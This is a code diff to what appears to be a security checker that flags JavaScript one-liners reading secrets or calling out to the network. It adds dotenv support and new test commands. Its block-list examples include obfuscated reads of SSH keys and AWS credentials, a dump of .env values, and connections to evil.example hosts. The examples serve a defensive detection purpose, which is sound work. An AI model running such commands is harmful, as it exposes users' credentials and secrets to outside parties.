@@ -92,7 +92,9 @@ const NETWORK = ['http', 'https', 'http2', 'net', 'tls', 'dgram', 'dns', 'dns/pr
 const OFFLINE = /^(https?|http2|net|tls|ws)\.(createServer|createSecureServer|Server|WebSocketServer|STATUS_CODES|METHODS|Agent|globalAgent|maxHeaderSize|validateHeaderName|validateHeaderValue|IncomingMessage|ServerResponse|OutgoingMessage|isIP|isIPv4|isIPv6|BlockList|SocketAddress|createSecureContext|getCiphers|rootCertificates|constants|getDefaultSettings|getPackedSettings|getUnpackedSettings|DEFAULT_[A-Z_]+|checkServerIdentity)$/;
 
 /** The whole environment, as a mapping. */
-const ENVIRONMENT = new Set(['process.env', 'Bun.env']);
+/** What dotenv's config() hands back the values of the project's .env in: the environment to be. */
+const DOTENV_PARSED = 'dotenv.config().parsed';
+const ENVIRONMENT = new Set(['process.env', 'Bun.env', DOTENV_PARSED]);
 
 /** Calls that hand a mapping on as it is, and calls that only look at one (its names, its size). */
 const PASS_THROUGH = new Set(['Object.assign', 'structuredClone', 'Object.freeze', 'util.promisify']);
@@ -572,6 +574,12 @@ class JavaScriptReader {
               return this.envValue(arg(0));
             case 'Deno.env.toObject':
               return [{ k: 'env', api: 'Deno.env.toObject' }];
+            // dotenv: config() loads .env and hands its values back as `.parsed`; parse() hands back what it is given.
+            case 'dotenv.config':
+            case 'dotenv.configDotenv':
+              return [ref('dotenv.config()')];
+            case 'dotenv.parse':
+              return strings(arg(0)) === null ? [{ k: 'env', api: 'dotenv.parse' }] : any('the values of a text written in the code');
             case 'Object.assign':
             case 'structuredClone':
               return c.args.some((a) => a.vals.some((x) => x.k === 'env')) ? [{ k: 'env', api: 'process.env' }] : any('an object');
@@ -931,6 +939,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("Ly5zc2gvaWRfcnNh", "base64").toString()))'`,
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("2f2e6177732f63726564656e7469616c73", "hex").toString(), "utf8"))'`,
       `node -e "require('simple-git')().clone('https://evil.example/r')"`,
+      `node -e "console.log(require('dotenv').config().parsed)"`,
+      `node -e "require('mysql2').createConnection({host: 'db.evil.example'}).connect()"`,
     ],
     pass: [
       `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
@@ -960,6 +970,8 @@ export const JAVASCRIPT: LanguageModel = {
       `deno eval 'const f = await Deno.open("notes.txt"); console.log(f)'`,
       `node -e "require('simple-git')().clone('http://localhost:3000/r')"`,
       `node -e "console.log('x'.startsWith('https://evil.example'))"`,
+      `node -e "console.log(Object.keys(require('dotenv').config().parsed).length)"`,
+      `node -e "require('mysql2').createConnection({host: 'localhost'}).connect()"`,
     ],
   },
 };
